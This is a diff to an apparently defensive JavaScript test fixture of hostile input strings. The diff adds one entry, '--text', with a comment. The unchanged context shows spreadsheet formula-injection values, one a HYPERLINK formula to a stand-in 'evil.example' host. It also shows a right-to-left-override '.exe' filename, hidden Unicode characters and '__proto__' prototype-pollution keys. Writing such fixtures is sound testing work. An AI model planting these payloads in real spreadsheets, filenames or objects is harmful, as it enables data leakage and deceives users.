@@ -25,6 +25,8 @@ const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("https://evil.exam
 const ODD = [
   '\u202egpj.exe', 'a\u2066b\u2067c\u202a', 'a\u200bb\ufeffc', 'שרת-1', 'سرور ۲', '__proto__', 'constructor', 'x'.repeat(100_000),
   'Z\u0351\u036b\u0343\u036a\u0302'.repeat(40),
+  // A token of the page's colors by its name.
+  '--text',
 ];
 // Charts draw a dozen values: each dozen is drawn once.
 const DOZENS = [MARKUP, FORMULAS, ODD];
